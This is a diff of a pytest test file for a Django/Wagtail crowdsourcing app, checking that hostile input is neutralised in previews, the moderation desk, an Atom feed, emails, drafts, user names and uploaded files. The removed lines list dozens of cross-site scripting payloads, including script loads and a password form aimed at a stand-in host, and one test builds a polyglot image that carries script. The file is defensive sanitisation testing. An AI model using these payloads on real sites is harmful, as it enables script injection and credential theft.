@@ -1,143 +1,309 @@
-"""What hostile text becomes on its way from the form to the public page."""
+"""What hostile text becomes on its way from the form to everything that shows it."""
 
 import time
 from html.parser import HTMLParser
+from urllib.parse import urlsplit
+from xml.etree import ElementTree
 
 import pytest
+from django.core import mail
+from django.core.exceptions import ValidationError
 from django.test import Client
+from django.urls import reverse
 
-from tests.contributions.support import contribute_url, form_data
+from tests.contributions import hostile
+from tests.contributions.files import picture, upload
+from tests.contributions.support import contribute_url, form_data, submit
 from tests.factories import ChallengeFactory
 from wagtail_crowdsolving.contributions import actions
-from wagtail_crowdsolving.contributions.models import Contribution
+from wagtail_crowdsolving.contributions.models import Attachment, Contribution
+from wagtail_crowdsolving.notifications.jobs import deliver_due
+from wagtail_crowdsolving.notifications.models import OutboxMail
 from wagtail_crowdsolving.text import LINK_SCHEMES, TAGS
 
 pytestmark = pytest.mark.django_db
 
+ATOM = "{http://www.w3.org/2005/Atom}"
 WORDS = "Des mots bien visibles autour. "
-CORPUS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<object data='data:text/html,<script>alert(1)</script>'></object>",
-    "<a href='javascript:alert(1)'>clic</a>",
-    "<a href='jav&#x09;ascript:alert(1)'>clic</a>",
-    "<body onload=alert(1)>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<base href='https://evil.example/'>",
-    "<form action='https://evil.example'><input name=password></form>",
-    "</div></article></main><h1>Faux titre</h1>",
-    "<p style='position:fixed;inset:0'>voile</p>",
-    "<p id=contribute class=cs-notice>faux</p>",
-    "<!-- commentaire --><!--[if IE]><script>alert(1)</script><![endif]-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<textarea></textarea><script>alert(1)</script>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "[clic](javascript:alert(1))",
-    "[clic](JaVaScRiPt:alert(1))",
-    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[clic](vbscript:msgbox(1))",
-    '[clic](https://example.org/"onmouseover="alert(1))',
-    "[clic](<https://example.org/' onclick='alert(1)>)",
-    "![image](https://evil.example/pixel.png)",
-    "<https://example.org/<script>alert(1)</script>>",
-    'https://example.org/?q="><script>alert(1)</script>',
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "**gras <img src=x onerror=alert(1)>**",
-    "# Titre\n\n<h1>Titre</h1>\n\n***",
-    "{{ request.user.email }} {% load static %} {% url 'x' %}",
-    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>",
-    "- <script>alert(1)</script>\n- <img src=x onerror=alert(1)>",
-    "\ufeff<script\u00a0>alert(1)</script\u00a0>",
-]
-HOSTILE_ATTRIBUTES = {"style", "id", "class", "src", "srcset", "srcdoc", "formaction", "action"}
+LOADS = {
+    "script",
+    "style",
+    "link",
+    "base",
+    "iframe",
+    "frame",
+    "object",
+    "embed",
+    "applet",
+    "portal",
+}
+ADDRESSES = {
+    "href",
+    "src",
+    "srcset",
+    "action",
+    "formaction",
+    "data",
+    "poster",
+    "background",
+    "ping",
+}
 
 
-class Body(HTMLParser):
-    """The elements inside the body of the one contribution of a page."""
+class Reader(HTMLParser):
+    """What a page does beside showing text, and what stands in the texts of its contributions."""
 
     def __init__(self):
         super().__init__()
-        self.depth = 0
-        self.elements = []
-        self.text = ""
-        self.everywhere = []
+        self.does, self.tags, self.bodies = set(), [], {}
+        self.article, self.depth = "", 0
 
     def handle_starttag(self, tag, attrs):
-        attrs = dict(attrs)
-        self.everywhere.append((tag, attrs))
+        attrs = {name: value or "" for name, value in attrs}
+        self.tags.append(tag)
+        if tag in LOADS or tag == "meta" and "http-equiv" in attrs:
+            self.does.add((tag, attrs.get("src") or attrs.get("href") or attrs.get("type", "")))
+        for name, value in attrs.items():
+            if name.startswith(("on", "hx-", "data-controller", "data-action")) or name == "style":
+                self.does.add((name, value))
+            if name in ADDRESSES and urlsplit(value.strip()).scheme not in ("", *LINK_SCHEMES):
+                self.does.add((name, value))
+            if name in ADDRESSES and tag != "a" and "evil.example" in value:
+                self.does.add((name, value))
+        if tag == "article":
+            self.article = attrs.get("id", "")
         if self.depth:
-            self.elements.append((tag, attrs))
-            if tag == "div":
-                self.depth += 1
-        elif "cs-contribution__body" in (attrs.get("class") or ""):
+            self.bodies[self.article]["elements"].append((tag, attrs))
+            self.depth += tag == "div"
+        elif "cs-contribution__body" in attrs.get("class", ""):
+            self.bodies[self.article] = {"elements": [], "text": ""}
             self.depth = 1
 
     def handle_endtag(self, tag):
-        if self.depth and tag == "div":
+        if self.depth and tag in ("div", "blockquote"):
             self.depth -= 1
 
     def handle_data(self, data):
         if self.depth:
-            self.text += data
+            self.bodies[self.article]["text"] += data
 
 
-def parse(html):
-    parser = Body()
-    parser.feed(html)
-    return parser
+def read(html):
+    reader = Reader()
+    reader.feed(html)
+    reader.close()
+    return reader
+
+
+def new(reader, usual):
+    """What a page does that it does not do with a harmless text."""
+    return reader.does - usual.does
 
 
 @pytest.fixture
-def show(client, member, moderator, challenge):
-    """Send through the form, have it validated, and read the public page."""
-
-    def show(**typed):
-        client.force_login(member)
-        response = client.post(contribute_url(challenge), form_data(member, challenge, **typed))
-        assert response.status_code == 302, response.context["form"].errors
-        actions.approve(contribution=Contribution.objects.latest("pk"), by=moderator)
-        return parse(Client().get(challenge.url).content.decode())
-
-    return show
+def many(settings):
+    settings.WAGTAIL_CROWDSOLVING = {
+        "CONTRIBUTION_MIN_SECONDS": 0,
+        "CONTRIBUTIONS_PER_HOUR": 10_000,
+        "CONTRIBUTIONS_PER_HOUR_PER_ADDRESS": 0,
+        "THREADS_PER_PAGE": 10_000,
+    }
+    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 100_000
 
 
-@pytest.mark.parametrize("hostile", CORPUS)
-def test_nothing_executable_reaches_the_page(show, hostile):
-    page = show(text=WORDS + hostile, place=hostile[:160].replace("\n", " "))
-    assert WORDS.strip() in page.text
-    for tag, attrs in page.elements:
-        assert tag in TAGS
-        assert not HOSTILE_ATTRIBUTES & set(attrs)
-        assert not [name for name in attrs if name.startswith("on")]
-        if "href" in attrs:
-            assert attrs["href"].partition(":")[0].lower() in LINK_SCHEMES
-            assert "nofollow" in attrs["rel"]
-    for tag, attrs in page.everywhere:
-        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
-        assert "evil.example" not in str(attrs.get("src")) + str(attrs.get("action"))
-    assert [tag for tag, _attrs in page.everywhere].count("h1") == 1
+@pytest.fixture
+def writer(member):
+    client = Client()
+    client.force_login(member)
+    return client
 
 
-@pytest.mark.parametrize("name", ["first_name", "last_name"])
-def test_hostile_names(show, member, name):
-    setattr(member, name, "<script>alert(1)</script>")
+def typed(text):
+    return {"text": WORDS + text, "place": text.replace("\n", " ")[:160]}
+
+
+def test_there_are_enough():
+    assert hostile.NUMBER >= 100
+
+
+class TestTexts:
+    """One walk with all of them: form, preview, mail, desk, page, address, own list."""
+
+    @pytest.fixture
+    def sent(self, many, challenge, member, writer):
+        """``{name: contribution}``: the harmless one first, each previewed and sent by the form."""
+        address, sent, wrong = contribute_url(challenge), {}, []
+        usual = None
+        for name, text in {"harmless": "Rien.", **hostile.TEXTS}.items():
+            data = form_data(member, challenge, **typed(text))
+            previewed = writer.post(address, {**data, "go": "preview"})
+            assert previewed.context["preview"], (name, previewed.context["form"].errors)
+            page = read(previewed.content.decode())
+            usual = usual or page
+            if new(page, usual) or page.tags.count("h1") != 1:
+                wrong.append((name, new(page, usual)))
+            response = writer.post(address, data)
+            assert response.status_code == 302, (name, response.context["form"].errors)
+            sent[name] = Contribution.objects.latest("pk")
+        assert wrong == []
+        return sent
+
+    def test_nothing_executes(self, sent, challenge, member, moderator, writer, settings):
+        desk = Client()
+        desk.force_login(moderator)
+        inspect = {
+            name: read(
+                desk.get(
+                    reverse("crowdsolving_contributions:inspect", args=[item.pk])
+                ).content.decode()
+            )
+            for name, item in sent.items()
+        }
+        assert {
+            n: new(r, inspect["harmless"])
+            for n, r in inspect.items()
+            if new(r, inspect["harmless"])
+        } == {}
+
+        feed, fed = reverse("wagtail_crowdsolving:discussion_feed", args=[challenge.pk]), 0
+        for number, item in enumerate(sent.values(), 1):
+            actions.approve(contribution=item, by=moderator)
+            if number % 20 == 0 or number == len(sent):
+                for entry in ElementTree.fromstring(Client().get(feed).content).iter(
+                    f"{ATOM}entry"
+                ):
+                    page, fed = read(entry.findtext(f"{ATOM}summary")), fed + 1
+                    assert page.does == set()
+                    assert set(page.tags) <= TAGS
+        assert fed >= len(sent)
+        shown = {}
+        for name, client in (("visitor", Client()), ("member", desk)):
+            shown[name] = read(client.get(challenge.url).content.decode())
+        for page in shown.values():
+            assert page.tags.count("h1") == 1
+            assert {value for _name, value in page.does if "evil.example" in value} == set()
+            assert not [name for name, _value in page.does if name.startswith("on")]
+            for name, item in sent.items():
+                body = page.bodies[f"contribution-{item.pk}"]
+                assert WORDS.strip() in body["text"], name
+                for tag, attrs in body["elements"]:
+                    assert tag in TAGS, name
+                    assert set(attrs) <= {"href", "rel"}, name
+                    if "href" in attrs:
+                        assert attrs["href"].partition(":")[0].lower() in LINK_SCHEMES, name
+                        assert "nofollow" in attrs["rel"], name
+        assert member.email not in Client().get(challenge.url).content.decode()
+
+        own = read(writer.get(reverse("wagtail_crowdsolving:my_contributions")).content.decode())
+        assert not [does for does in own.does if "alert" in str(does) or "evil" in str(does)]
+        one = reverse("wagtail_crowdsolving:contribution_thread", args=[sent["script"].pk])
+        assert read(Client().get(one).content.decode()).does <= shown["visitor"].does
+
+        settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
+        usual = read(OutboxMail.objects.get(key__contains=f"received/{sent['harmless'].pk}").html)
+        for row in OutboxMail.objects.filter(kind="contributions/received"):
+            assert new(read(row.html), usual) == set(), row.key
+            assert "\n" not in row.subject
+        while OutboxMail.objects.filter(state=OutboxMail.State.QUEUED).exists():
+            deliver_due()
+        for message in mail.outbox:
+            assert message.recipients() == [member.email]
+            assert {"Bcc", "Cc", "From "}.isdisjoint(message.message().keys())
+
+    @pytest.mark.parametrize("text", hostile.REFUSED.values(), ids=hostile.REFUSED)
+    def test_refused_and_given_back_harmless(self, challenge, member, writer, text):
+        with pytest.raises(ValidationError) as error:
+            submit(challenge, member, text=text)
+        assert set(error.value.message_dict) == {"text"}
+        if text.isprintable() or "\ud83d" not in text:
+            response = writer.post(
+                contribute_url(challenge), form_data(member, challenge, text=text)
+            )
+            page = read(response.content.decode())
+            assert response.status_code == 200
+            assert not [does for does in page.does if "alert" in str(does)]
+        assert not Contribution.objects.exists()
+
+    @pytest.mark.parametrize("link", hostile.LINKS)
+    def test_no_link(self, challenge, member, writer, link):
+        data = form_data(member, challenge, kind="inspiration", link=link)
+        response = writer.post(contribute_url(challenge), data)
+        assert list(response.context["form"].errors) == ["link"]
+        assert not Contribution.objects.exists()
+
+    def test_a_draft_is_no_way_in(self, challenge, member, writer):
+        usual = None
+        for text in ("Rien.", *hostile.TEXTS.values(), *list(hostile.REFUSED.values())[:-1]):
+            data = form_data(member, challenge, **typed(text))
+            writer.post(contribute_url(challenge), {**data, "go": "draft"})
+            for address in (challenge.url, reverse("wagtail_crowdsolving:my_contributions")):
+                page = read(writer.get(address).content.decode())
+                assert not [does for does in page.does if "alert" in str(does)]
+                assert not [does for does in page.does if "evil" in str(does)]
+                assert page.tags.count("h1") == 1
+            usual = usual or page
+        assert usual
+
+
+@pytest.mark.parametrize("name", hostile.NAMES)
+def test_names_of_people(challenge, member, moderator, name):
+    member.first_name = member.last_name = name[:150]
     member.save()
-    page = show()
-    assert ("script", {}) not in page.everywhere
+    item = submit(challenge, member)
+    desk = Client()
+    desk.force_login(moderator)
+    inspect = desk.get(reverse("crowdsolving_contributions:inspect", args=[item.pk]))
+    actions.approve(contribution=item, by=moderator)
+    for html in (inspect.content.decode(), Client().get(challenge.url).content.decode()):
+        page = read(html)
+        assert not [does for does in page.does if "alert" in str(does) or "evil" in str(does)]
+        assert member.email not in page.bodies.get(f"contribution-{item.pk}", {}).get("text", "")
+    for row in OutboxMail.objects.all():
+        assert "\n" not in row.subject
+        assert not [does for does in read(row.html).does if "alert" in str(does)]
 
 
-def test_paragraphs_lists_and_links_survive(show):
-    page = show(text="Un *deux* **trois**\n\n- quatre\n- cinq\n\n1. six\n\nhttps://example.org/a")
-    tags = [tag for tag, _attrs in page.elements]
-    assert {"p", "em", "strong", "ul", "ol", "li", "a"} <= set(tags)
+class TestFiles:
+    @pytest.mark.parametrize("name", hostile.FILE_NAMES)
+    def test_names(self, challenge, member, moderator, name):
+        file = picture("a.png", "PNG")
+        file._name = name
+        item = submit(challenge, member, attachments=[(file, name)])
+        actions.approve(contribution=item, by=moderator)
+        page = read(Client().get(challenge.url).content.decode())
+        assert not [does for does in page.does if "alert" in str(does) or "evil" in str(does)]
+        one = Attachment.objects.get()
+        assert "/" not in one.name
+        response = Client().get(
+            reverse("wagtail_crowdsolving:contribution_attachment", args=[one.pk])
+        )
+        assert "Set-Cookie" not in response
+        assert response["Content-Type"] == "image/png"
+        assert one.file.name == f"contributions/{one.pk}.png"
+
+    @pytest.mark.parametrize("file", hostile.FILES, ids=lambda file: file[0])
+    def test_disguised(self, challenge, member, writer, file):
+        data = form_data(member, challenge)
+        data["attachments-0"] = upload(*file, content_type="image/png")
+        response = writer.post(contribute_url(challenge), data)
+        assert list(response.context["form"].errors) == ["attachments"]
+        assert not Contribution.objects.exists()
+        assert not Attachment.objects.exists()
+
+    def test_a_picture_that_is_a_page_too(self, challenge, member):
+        """What stands behind the end of a picture, or in its comment, is gone."""
+        polyglot = picture(comment=b"<script>alert(1)</script>")
+        polyglot = upload("a.jpg", polyglot.read() + b"<!doctype html><script>alert(1)</script>")
+        submit(challenge, member, attachments=[(polyglot, "")])
+        assert b"script" not in Attachment.objects.get().file.open().read()
+
+
+def test_paragraphs_lists_and_links_survive(challenge, member, moderator):
+    text = "Un *deux* **trois**\n\n- quatre\n- cinq\n\n1. six\n\nhttps://example.org/a"
+    item = submit(challenge, member, text=text)
+    actions.approve(contribution=item, by=moderator)
+    body = read(Client().get(challenge.url).content.decode()).bodies[f"contribution-{item.pk}"]
+    assert {"p", "em", "strong", "ul", "ol", "li", "a"} <= {tag for tag, _ in body["elements"]}
 
 
 @pytest.mark.parametrize(
@@ -147,11 +313,11 @@ def test_paragraphs_lists_and_links_survive(show):
 def test_repeated_markup_takes_no_time(member, pattern):
     challenge = ChallengeFactory()
     text = WORDS + (pattern * 10000)[: 10000 - len(WORDS)].rstrip()
-    start = time.perf_counter()
+    start = time.process_time()
     client = Client()
     client.force_login(member)
     assert (
         client.post(contribute_url(challenge), form_data(member, challenge, text=text)).status_code
         == 302
     )
-    assert time.perf_counter() - start < 3
+    assert time.process_time() - start < 3
